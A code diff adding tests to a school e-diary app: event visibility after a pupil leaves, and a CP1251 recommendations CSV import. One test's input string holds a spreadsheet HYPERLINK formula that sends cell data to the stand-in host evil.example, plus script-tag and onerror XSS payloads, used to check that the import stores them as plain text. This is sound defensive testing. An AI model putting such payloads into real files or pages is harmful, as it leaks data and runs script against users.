@@ -2,13 +2,15 @@
 // lessons imports read the comment columns in Russian and write all or nothing; /staff/events adds, changes and
 // deletes events through one zod form; the parent's e-diary shows a comment beside its mark and under its lesson and
 // an event on its day — for the own child only, and a class's event only to that class's parents.
+import iconv from 'iconv-lite'
 import { describe, expect, it } from 'vitest'
 import { db } from '#app/utils/db.server'
 import { applyImport, dryRunImport } from '#app/import/run.server'
 import { getDiaryPeriod, getDiaryWeek } from '#app/models/journal/diary.server'
 import { action as eventsAction, loader as eventsLoader } from '#app/routes/staff.events'
 import { loader as childLoader } from '#app/routes/parent.children.$pupilId'
-import { formatDate } from '#workflows/time'
+import { addDays, formatDate } from '#workflows/time'
+import { mondayOf } from '#workflows/diary'
 import { signIn } from '#tests/helpers/auth'
 import { formRequest, getRequest, settle } from '#tests/helpers/http'
 
@@ -265,6 +267,48 @@ describe('school events: /staff/events and the e-diary', () => {
       expect((await weekOf(c1, other.id)).status).toBe(404)
     },
   )
+
+  it('a pupil who has left sees no event after the leaving day, of the class or of the whole school', async () => {
+    const parent = await db.user.findUniqueOrThrow({ where: { login: 'parent' }, include: { guardian: { include: { links: true } } } })
+    const child = await db.pupil.findFirstOrThrow({ where: { id: { in: parent.guardian!.links.map((l) => l.pupilId) }, leftOn: null } })
+    const year = await db.academicYear.findFirstOrThrow({ where: { schoolId: SCHOOL, current: true } })
+    // A Monday in the year, the pupil leaving on the Tuesday; events on the Tuesday (still theirs) and the Thursday.
+    const monday = mondayOf(year.startsOn.slice(0, 4) + '-12-02')
+    const [tuesday, thursday] = [addDays(monday, 1), addDays(monday, 3)]
+    await db.schoolEvent.createMany({
+      data: [
+        { schoolId: SCHOOL, date: tuesday, title: 'Родительское собрание (до выбытия)' },
+        { schoolId: SCHOOL, date: thursday, title: 'Общешкольный концерт (после выбытия)' },
+      ],
+    })
+    const classEvent = await db.schoolEvent.create({
+      data: {
+        schoolId: SCHOOL,
+        date: thursday,
+        title: 'Экскурсия класса (после выбытия)',
+        classes: { create: [{ classId: child.classId }] },
+      },
+    })
+    const titles = async () =>
+      (await getDiaryWeek(SCHOOL, child.id, monday, { today: monday }))!.days.flatMap((d) => d.events.map((e) => e.title)).sort()
+    expect(await titles()).toEqual(
+      expect.arrayContaining([
+        'Общешкольный концерт (после выбытия)',
+        'Родительское собрание (до выбытия)',
+        'Экскурсия класса (после выбытия)',
+      ]),
+    )
+    await db.pupil.update({ where: { id: child.id }, data: { leftOn: tuesday } })
+    try {
+      const after = await titles()
+      expect(after).toContain('Родительское собрание (до выбытия)')
+      expect(after).not.toContain('Общешкольный концерт (после выбытия)')
+      expect(after).not.toContain('Экскурсия класса (после выбытия)')
+    } finally {
+      await db.pupil.update({ where: { id: child.id }, data: { leftOn: null } })
+      await db.schoolEvent.delete({ where: { id: classEvent.id } })
+    }
+  })
 })
 
 describe('recommendations to one pupil (the «recommendations» kind)', () => {
@@ -311,4 +355,43 @@ describe('recommendations to one pupil (the «recommendations» kind)', () => {
     expect(comments(own)).toEqual([expect.objectContaining({ text, personal: true, author: expect.stringMatching(/\S/) })])
     expect(comments(theirs)).toEqual([])
   })
+
+  it(
+    'a file shaped like the real world: CP1251, a formula, markup and Word’s ' +
+      'line break stay plain text; another class’s pupil is refused',
+    async () => {
+      const { child, lesson, classmate } = await lessonWithClassmate()
+      await db.journalComment.deleteMany({ where: { lessonId: lesson.id } })
+      const elsewhere = await db.pupil.findFirstOrThrow({ where: { schoolId: SCHOOL, leftOn: null, classId: { not: child.classId } } })
+      const at = [child.class.name, formatDate(lesson.date), String(lesson.period)]
+      const attack =
+        '=HYPERLINK("http://evil.example/?q="&A1;"Подробнее") <script>alert(1)</script><img src=x onerror=alert(2)>\u000bвторая строка'
+      const header = ['Класс', 'Дата', 'Урок', 'Обучающийся', 'Рекомендация']
+      const rows = (list: string[][]) =>
+        iconv.encode([header, ...list].map((r) => r.map((v) => `"${v.replace(/"/g, '""')}"`).join(';')).join('\r\n') + '\r\n', 'win1251')
+      const file = (bytes: Uint8Array) => ({ schoolId: SCHOOL, kind: 'recommendations' as const, fileName: 'rec.csv', bytes })
+
+      // A pupil of another class named on this class's lesson: refused with the reason, nothing written.
+      const refused = await applyImport(file(rows([[...at, fio(elsewhere), 'Повторить таблицу умножения.']])))
+      expect(refused.applied).toBe(false)
+      expect(refused.errors).toEqual([
+        expect.objectContaining({ line: 2, message: expect.stringMatching(/не входит в группу этого урока/) }),
+      ])
+      expect(await db.journalComment.count({ where: { lessonId: lesson.id } })).toBe(0)
+
+      const applied = await applyImport(file(rows([[...at, fio(child), attack]])))
+      expect(applied).toMatchObject({ applied: true, counts: { created: 1 } })
+      // The formula is named as a warning; the text is stored as it reads, the line break a space, no control character.
+      expect(applied.warnings.length).toBeGreaterThan(0)
+      const stored = await db.journalComment.findFirstOrThrow({ where: { lessonId: lesson.id } })
+      expect(stored.text).toBe(attack.replace('\u000b', ' '))
+      expect(stored.pupilId).toBe(child.id)
+      const theirs = await getDiaryWeek(SCHOOL, classmate.id, lesson.date, { today: lesson.date })
+      expect(theirs!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!.comments).toEqual([])
+      const own = await getDiaryWeek(SCHOOL, child.id, lesson.date, { today: lesson.date })
+      expect(own!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!.comments).toEqual([
+        expect.objectContaining({ text: stored.text, personal: true }),
+      ])
+    },
+  )
 })
